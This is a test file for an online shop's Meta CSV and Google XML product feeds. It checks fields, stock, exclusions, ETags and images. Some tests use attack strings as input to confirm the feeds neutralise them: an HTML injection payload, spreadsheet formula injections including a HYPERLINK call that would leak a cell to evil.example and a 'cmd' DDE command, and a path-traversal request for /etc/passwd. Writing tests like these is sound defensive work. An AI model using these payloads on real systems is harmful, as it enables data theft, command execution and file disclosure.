// The catalogue feeds (/feeds/meta.csv, /feeds/google.xml) through the app's real HTTP handler, on a
// real PostgreSQL holding the seed, read by a real CSV parser (csv-parse) and a real XML parser
// (fast-xml-parser): every field each platform requires on every item, the formats, the ids, the
// variants' group, stock and visibility changes, conditional requests, and the square pictures.
import { parse as parseCsv } from "csv-parse/sync";
import { and, eq, gt, isNotNull, ne, sql } from "drizzle-orm";
import { XMLParser, XMLValidator } from "fast-xml-parser";
import sharp from "sharp";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { channelExcludedProducts, channelExcludedShops, products, productVariants, shops } from "#database/schema";
import { foldStorefrontChanges } from "~/server/channels/feed-version.server";
import type { LoadContext } from "~/server/load-context.server";
import { createTestContext } from "../setup/admin-session";
import { startHttpApp, type HttpApp } from "../setup/http-app";
import { createTestDatabase, type TestDatabase } from "../setup/test-database";

const PUBLIC_URL = "https://loja.exemplo.com.br";

type MetaRow = Record<
  | "id" | "item_group_id" | "title" | "description" | "availability" | "condition" | "price" | "sale_price" | "link" | "image_link"
  | "additional_image_link" | "brand" | "google_product_category" | "gender" | "age_group" | "size" | "color",
  string
>;
type GoogleItem = Record<string, string | string[]>;

let t: TestDatabase;
let app: Awaited<ReturnType<typeof createTestContext>>;
let http: HttpApp;
let context: LoadContext;

beforeAll(async () => {
  t = await createTestDatabase();
  app = await createTestContext(t);
  context = { ...app.context, config: { ...app.context.config, publicUrl: PUBLIC_URL, mediaDir: t.mediaDir } };
  http = await startHttpApp(context);
  // Vite compiles the route modules on the first request: in the hook's time, not the first test's.
  await fetch(`${http.origin}/feeds/meta.csv`).then((response) => response.arrayBuffer());
});
afterAll(async () => {
  await http?.close();
  await app?.close();
  await t?.close();
});

async function fetchFeed(path: string, headers: Record<string, string> = {}) {
  const response = await fetch(`${http.origin}${path}`, { headers });
  return { response, body: await response.text() };
}

async function metaFeed(): Promise<MetaRow[]> {
  const { response, body } = await fetchFeed("/feeds/meta.csv");
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(/^text\/csv/);
  return parseCsv(body, { columns: true, relax_column_count: false, skip_empty_lines: false }) as MetaRow[];
}

async function googleFeed(): Promise<GoogleItem[]> {
  const { response, body } = await fetchFeed("/feeds/google.xml");
  expect(response.status).toBe(200);
  expect(response.headers.get("content-type")).toMatch(/^application\/xml/);
  expect(XMLValidator.validate(body)).toBe(true);
  const parser = new XMLParser({ ignoreAttributes: false, parseTagValue: false, isArray: (name) => name === "item" || name === "g:additional_image_link" });
  const document = parser.parse(body) as { rss: { "@_version": string; "@_xmlns:g": string; channel: { title: string; link: string; item?: GoogleItem[] } } };
  expect(document.rss["@_version"]).toBe("2.0");
  expect(document.rss["@_xmlns:g"]).toBe("http://base.google.com/ns/1.0");
  expect(document.rss.channel.link).toBe(PUBLIC_URL);
  return document.rss.channel.item ?? [];
}

const text = (item: GoogleItem, name: string) => {
  const value = item[`g:${name}`];
  return Array.isArray(value) ? value.join(" ") : (value ?? "");
};

/** Active products that can be listed (a picture, a price, a description), read apart from the code under test. */
async function listableProducts() {
  return t.db
    .select({ id: products.id, name: products.name, sizes: products.sizes, colors: products.colors })
    .from(products)
    .where(and(eq(products.active, true), isNotNull(products.priceCents), ne(products.description, ""), sql`cardinality(${products.images}) > 0`));
}

const PRICE = /^\d+\.\d{2} BRL$/;

describe("the Meta and Google feeds", () => {
  it("list every variant of every listable product with every required field, in each platform's format", async () => {
    const [meta, google, listable] = await Promise.all([metaFeed(), googleFeed(), listableProducts()]);
    const variantCount = await t.db
      .select({ count: sql<number>`count(*)::int` })
      .from(productVariants)
      .where(sql`${productVariants.productId} in (${sql.join(listable.map((product) => sql`${product.id}`), sql`, `)})`);
    expect(meta.length).toBe(variantCount[0]!.count);
    expect(google.length).toBe(meta.length);

    for (const row of meta) {
      for (const field of ["id", "title", "description", "availability", "condition", "price", "link", "image_link", "brand"] as const) {
        expect(row[field], `${row.id} ${field}`).not.toBe("");
      }
      expect(row.id.length).toBeLessThanOrEqual(50);
      expect(row.title.length).toBeLessThanOrEqual(150);
      expect(["in stock", "out of stock"]).toContain(row.availability);
      expect(row.condition).toBe("new");
      expect(row.price).toMatch(PRICE);
      if (row.sale_price) expect(row.sale_price).toMatch(PRICE);
      expect(row.link).toMatch(new RegExp(`^${PUBLIC_URL}/produto/\\d+\\?`));
      expect(new URL(row.link).searchParams.get("utm_source")).toBe("meta");
      expect(row.image_link).toMatch(new RegExp(`^${PUBLIC_URL}/feeds/imagens/[0-9a-f]{24}\\.jpg$`));
      for (const link of row.additional_image_link ? row.additional_image_link.split(",") : []) expect(link).toMatch(/\/feeds\/imagens\/[0-9a-f]{24}\.jpg$/);
      expect(["", "female", "male", "unisex"]).toContain(row.gender);
      expect(["", "adult", "kids"]).toContain(row.age_group);
      expect(row.description).not.toMatch(/[<>\r\n]/);
    }
    for (const item of google) {
      for (const field of ["id", "title", "description", "link", "image_link", "availability", "condition", "price", "brand"]) {
        expect(text(item, field), `${text(item, "id")} ${field}`).not.toBe("");
      }
      expect(["in_stock", "out_of_stock"]).toContain(text(item, "availability"));
      expect(text(item, "price")).toMatch(PRICE);
      expect(text(item, "price")).not.toContain(",");
      expect(text(item, "identifier_exists")).toBe("no");
      expect(new URL(text(item, "link")).searchParams.get("utm_source")).toBe("google");
    }

    // Unique ids, the same in both feeds, and a product's variants under one item_group_id.
    const ids = meta.map((row) => row.id);
    expect(new Set(ids).size).toBe(ids.length);
    expect(google.map((item) => text(item, "id")).sort()).toEqual([...ids].sort());
    for (const product of listable) {
      const rows = meta.filter((row) => new URL(row.link).pathname === `/produto/${product.id}`);
      const expected = Math.max(product.sizes.length, 1) * Math.max(product.colors.length, 1);
      expect(rows.length, product.name).toBe(expected);
      if (product.sizes.length + product.colors.length > 0) {
        expect(new Set(rows.map((row) => row.item_group_id))).toEqual(new Set([String(product.id)]));
        // Each item names its own size and colour, and its link preselects them.
        for (const row of rows) {
          const link = new URL(row.link).searchParams;
          expect(link.get("tamanho") ?? "").toBe(row.size);
          expect(link.get("cor") ?? "").toBe(row.color);
        }
        expect(new Set(rows.map((row) => `${row.size}|${row.color}`)).size).toBe(rows.length);
      }
    }
  });

  it("reads each item's availability from that variant's stock, right after a change", async () => {
    const [variant] = await t.db
      .select({ id: productVariants.id, productId: productVariants.productId, size: productVariants.size, color: productVariants.color })
      .from(productVariants)
      .innerJoin(products, eq(products.id, productVariants.productId))
      .where(and(gt(productVariants.stock, 0), ne(productVariants.size, ""), isNotNull(products.priceCents), sql`cardinality(${products.images}) > 0`))
      .limit(1);
    const isItem = (row: MetaRow) => new URL(row.link).pathname === `/produto/${variant!.productId}` && row.size === variant!.size && row.color === variant!.color;
    expect((await metaFeed()).find(isItem)?.availability).toBe("in stock");

    await t.pool.query("delete from variant_stock where variant_id = $1", [variant!.id]);
    const meta = await metaFeed();
    const soldOut = meta.find(isItem)!;
    expect(soldOut.availability).toBe("out of stock");
    const google = await googleFeed();
    expect(text(google.find((item) => text(item, "id") === soldOut.id)!, "availability")).toBe("out_of_stock");
    // Its id did not change with the stock.
    expect(soldOut.id).toBe(meta.find(isItem)!.id);
  });

  it("drops a hidden product, a product the admin left out and a shop left out from both feeds", async () => {
    const listable = await listableProducts();
    const inFeeds = async (productId: number) => {
      const [meta, google] = await Promise.all([metaFeed(), googleFeed()]);
      const onPage = (link: string) => new URL(link).pathname === `/produto/${productId}`;
      return [meta.some((row) => onPage(row.link)), google.some((item) => onPage(text(item, "link")))];
    };
    const [hidden, leftOut] = listable;
    expect(await inFeeds(hidden!.id)).toEqual([true, true]);
    await t.db.update(products).set({ active: false }).where(eq(products.id, hidden!.id));
    expect(await inFeeds(hidden!.id)).toEqual([false, false]);

    await t.db.insert(channelExcludedProducts).values({ productId: leftOut!.id });
    expect(await inFeeds(leftOut!.id)).toEqual([false, false]);
    await t.db.delete(channelExcludedProducts);
    expect(await inFeeds(leftOut!.id)).toEqual([true, true]);

    const [shop] = await t.db.select({ id: products.shopId }).from(products).where(eq(products.id, leftOut!.id));
    await t.db.insert(channelExcludedShops).values({ shopId: shop!.id });
    const shopProducts = await t.db.select({ id: products.id }).from(products).where(eq(products.shopId, shop!.id));
    const meta = await metaFeed();
    expect(meta.filter((row) => shopProducts.some((product) => new URL(row.link).pathname === `/produto/${product.id}`))).toEqual([]);
    await t.db.delete(channelExcludedShops);
    await t.db.update(products).set({ active: true }).where(eq(products.id, hidden!.id));
  });

  it("leaves out, and reports, a product without picture, price or description", async () => {
    const listable = await listableProducts();
    const [noPicture, noPrice, noDescription] = listable;
    await t.db.update(products).set({ images: [] }).where(eq(products.id, noPicture!.id));
    await t.db.update(products).set({ priceCents: null, oldPriceCents: null }).where(eq(products.id, noPrice!.id));
    await t.db.update(products).set({ description: "  <p> </p>\n" }).where(eq(products.id, noDescription!.id));
    const { body } = await fetchFeed("/feeds/meta.csv");
    const rows = parseCsv(body, { columns: true }) as MetaRow[];
    for (const product of [noPicture, noPrice, noDescription]) {
      expect(rows.some((row) => new URL(row.link).pathname === `/produto/${product!.id}`), product!.name).toBe(false);
    }
  });

  it("keeps HTML, quotes, commas and line breaks of a description out of the rows' structure", async () => {
    const [product] = await listableProducts();
    const description = '<p>Linha 1, com "aspas";</p>\r\n<b>Linha 2</b>\n\nLinha 3 &amp; mais &lt;script&gt;\u2028fim <img src=x onerror=alert(1)';
    await t.db.update(products).set({ description, name: 'Tênis "Run", 2\nem 1' }).where(eq(products.id, product!.id));
    const meta = await metaFeed();
    const rows = meta.filter((row) => new URL(row.link).pathname === `/produto/${product!.id}`);
    expect(rows.length).toBeGreaterThan(0);
    for (const row of rows) {
      expect(row.description).toBe('Linha 1, com "aspas"; Linha 2 Linha 3 & mais script fim');
      expect(row.title.startsWith('Tênis "Run", 2 em 1')).toBe(true);
      expect(Object.keys(row)).toHaveLength(17);
    }
    const google = await googleFeed();
    const items = google.filter((item) => new URL(text(item, "link")).pathname === `/produto/${product!.id}`);
    expect(items.map((item) => text(item, "description"))).toEqual(rows.map((row) => row.description));
  });

  it("writes a Meta cell that Excel would run as a formula with a leading apostrophe, as the product CSV export does; Google's XML keeps the text", async () => {
    const [first, second] = await listableProducts();
    await t.db.update(products).set({ name: '=HYPERLINK("http://evil.example/?"&A1,"Ver")', description: "@SUM(1+1)" }).where(eq(products.id, first!.id));
    await t.db.update(products).set({ name: "+cmd|' /C calc'!A0", description: "-2+3" }).where(eq(products.id, second!.id));
    const meta = await metaFeed();
    const rowsOf = (id: number) => meta.filter((row) => new URL(row.link).pathname === `/produto/${id}`);
    expect(rowsOf(first!.id).length).toBeGreaterThan(0);
    expect(rowsOf(second!.id).length).toBeGreaterThan(0);
    for (const row of rowsOf(first!.id)) {
      expect(row.title.startsWith(`'=HYPERLINK("http://evil.example/?"&A1,"Ver")`)).toBe(true);
      expect(row.description).toBe("'@SUM(1+1)");
    }
    for (const row of rowsOf(second!.id)) {
      expect(row.title.startsWith("'+cmd|' /C calc'!A0")).toBe(true);
      expect(row.description).toBe("'-2+3");
    }
    // No cell of the whole file starts a formula.
    for (const row of meta) for (const [column, value] of Object.entries(row)) expect(value, column).not.toMatch(/^[=+\-@]/);
    const google = await googleFeed();
    const item = google.find((candidate) => new URL(text(candidate, "link")).pathname === `/produto/${first!.id}`);
    expect(text(item!, "description")).toBe("@SUM(1+1)");
  });

  it("answers 304 to a client that has the feed, by ETag, and 200 once anything it shows changed", async () => {
    for (const path of ["/feeds/meta.csv", "/feeds/google.xml"]) {
      const first = await fetchFeed(path);
      const etag = first.response.headers.get("etag")!;
      expect(etag).toMatch(/^"(meta|google)-[\w-]+"$/);
      // Streamed: the length is not known before the last page is read.
      expect(first.response.headers.get("content-length")).toBeNull();
      expect((await fetchFeed(path, { "if-none-match": etag })).response.status).toBe(304);
      expect((await fetchFeed(path, { "if-none-match": `"other", W/${etag}` })).response.status).toBe(304);
      expect((await fetchFeed(path, { "if-none-match": '"other"' })).response.status).toBe(200);
      // The same catalogue, the same bytes and the same ETag.
      const again = await fetchFeed(path);
      expect(again.response.headers.get("etag")).toBe(etag);
      expect(again.body).toBe(first.body);
      const head = await fetch(`${http.origin}${path}`, { method: "HEAD" });
      expect(head.status).toBe(200);
      expect(head.headers.get("etag")).toBe(etag);
    }
    // Each thing a feed shows: a price, a variant's stock, the shop's name, the settings, the admin's
    // exclusions and category mappings.
    const changes: (() => Promise<unknown>)[] = [
      () => t.db.update(products).set({ priceCents: sql`${products.priceCents} + 100` }).where(isNotNull(products.priceCents)),
      () => t.pool.query("update variant_stock set units = units + 1 where variant_id = (select min(variant_id) from variant_stock)"),
      () => t.pool.query("update shops set name = name || ' ' where id = (select min(id) from shops)"),
      () => t.pool.query("update settings set updated_at = now()"),
      () => t.pool.query("insert into channel_excluded_products (product_id) select min(id) from products"),
      () => t.pool.query("insert into channel_category_mappings (category, subcategory, google_category) values ('x', 'y', 'z')"),
    ];
    for (const change of changes) {
      const { response } = await fetchFeed("/feeds/meta.csv");
      const etag = response.headers.get("etag")!;
      await change();
      const changed = await fetchFeed("/feeds/meta.csv", { "if-none-match": etag });
      expect(changed.response.status, String(change)).toBe(200);
      expect(changed.response.headers.get("etag")).not.toBe(etag);
    }
    // Folding the counter's rows into its number leaves the ETag alone.
    const { response } = await fetchFeed("/feeds/meta.csv");
    await foldStorefrontChanges(t.db);
    expect((await fetchFeed("/feeds/meta.csv", { "if-none-match": response.headers.get("etag")! })).response.status).toBe(304);
  });

  it("serves each item's picture square, at least 500 × 500, as a JPEG", async () => {
    const meta = await metaFeed();
    const links = [...new Set(meta.flatMap((row) => [row.image_link, ...(row.additional_image_link ? row.additional_image_link.split(",") : [])]))];
    for (const link of links.slice(0, 4)) {
      const response = await fetch(`${http.origin}${new URL(link).pathname}`);
      expect(response.status).toBe(200);
      expect(response.headers.get("content-type")).toBe("image/jpeg");
      const { width, height, format } = await sharp(Buffer.from(await response.arrayBuffer())).metadata();
      expect(format).toBe("jpeg");
      expect(width).toBe(height);
      expect(width).toBeGreaterThanOrEqual(500);
    }
    for (const path of ["/feeds/imagens/nada.jpg", "/feeds/imagens/000000000000000000000000.jpg", "/feeds/imagens/..%2F..%2Fetc%2Fpasswd.jpg"]) {
      expect((await fetch(`${http.origin}${path}`)).status).toBe(404);
    }
  });

  it("gives a product without a brand its shop's name as it is now", async () => {
    const [product] = await t.db
      .select({ id: products.id, shopId: products.shopId })
      .from(products)
      .where(and(eq(products.active, true), isNotNull(products.priceCents), sql`cardinality(${products.images}) > 0`))
      .limit(1);
    await t.db.update(products).set({ brand: "" }).where(eq(products.id, product!.id));
    await t.db.update(shops).set({ name: "Erick Renomeada" }).where(eq(shops.id, product!.shopId));
    const rows = (await metaFeed()).filter((row) => new URL(row.link).pathname === `/produto/${product!.id}`);
    expect(rows.map((row) => row.brand)).toEqual(rows.map(() => "Erick Renomeada"));
  });
});

describe("the feeds in several processes", () => {
  let other: HttpApp;
  beforeAll(async () => {
    // Another process as far as the feeds go: its own module instances, which never built a feed.
    other = await startHttpApp(context);
  });
  afterAll(async () => {
    await other?.close();
  });

  it("answers a conditional request with 304 from a process that never built the feed, without reading the catalogue", async () => {
    for (const path of ["/feeds/meta.csv", "/feeds/google.xml"]) {
      const { response } = await fetchFeed(path);
      const etag = response.headers.get("etag")!;
      // The catalogue's tables locked against any read: a 304 that needed the feed would wait out the
      // pool's query timeout and fail.
      const locker = await t.pool.connect();
      try {
        await locker.query("begin");
        await locker.query("lock table products, product_variants in access exclusive mode");
        const conditional = await fetch(`${other.origin}${path}`, { headers: { "if-none-match": etag } });
        expect(conditional.status).toBe(304);
        expect(conditional.headers.get("etag")).toBe(etag);
      } finally {
        await locker.query("rollback");
        locker.release();
      }
      // And the same feed, byte for byte, when it asks for the whole of it.
      const [here, there] = await Promise.all([fetchFeed(path), fetch(`${other.origin}${path}`).then(async (r) => ({ response: r, body: await r.text() }))]);
      expect(there.response.headers.get("etag")).toBe(here.response.headers.get("etag"));
      expect(there.body).toBe(here.body);
    }
  });

  it("streams the feed from the snapshot whose count is its ETag, and frees its place when the client goes away", async () => {
    // Clients that read the first bytes and leave: the places they held come back.
    for (let client = 0; client < 4; client += 1) {
      const response = await fetch(`${http.origin}/feeds/google.xml`);
      const reader = response.body!.getReader();
      const first = await reader.read();
      expect(new TextDecoder().decode(first.value).startsWith("<?xml")).toBe(true);
      await reader.cancel();
    }
    // A change committed while a feed streams is not in it, and its ETag says so.
    const response = await fetch(`${http.origin}/feeds/meta.csv`);
    const etag = response.headers.get("etag")!;
    await t.pool.query("update products set name = 'Mudou no meio' where id = (select min(id) from products where active)");
    const body = await response.text();
    expect(body).not.toContain("Mudou no meio");
    const next = await fetchFeed("/feeds/meta.csv", { "if-none-match": etag });
    expect(next.response.status).toBe(200);
  });
});
